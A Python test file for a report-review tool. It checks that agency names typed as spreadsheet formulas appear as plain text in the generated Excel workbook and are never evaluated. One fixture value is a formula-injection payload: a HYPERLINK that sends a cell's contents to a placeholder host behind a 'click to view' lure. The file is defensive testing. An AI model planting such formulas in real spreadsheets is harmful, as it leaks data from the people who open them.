"""Text from the units' reports stays text in the review workbook: an agency typed as a formula is shown,
never evaluated (the review reads files from many senders)."""
from __future__ import annotations

import openpyxl
from nianbao import cli, examples, model


def test_formula_like_agency_names_are_text_in_the_review(tmp_path):
    units = tmp_path / "本年"
    units.mkdir()
    hostile = '=HYPERLINK("http://example.invalid/?d="&B8,"点击查看说明")'
    for i, agency in enumerate((hostile, "=1+1", "某某县人民政府办公室")):
        rep = examples.load("example2021")
        rep.agency = agency
        (units / f"u{i}.json").write_text(model.dumps(rep), encoding="utf-8")
    out = tmp_path / "审核.xlsx"
    assert cli.main(["review", str(units), "-o", str(out)]) in (0, 1)
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=")]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert hostile in texts and "=1+1" in texts
    assert not any(c.data_type == "f" and ("HYPERLINK" in c.value or c.value == "=1+1") for c in cells)
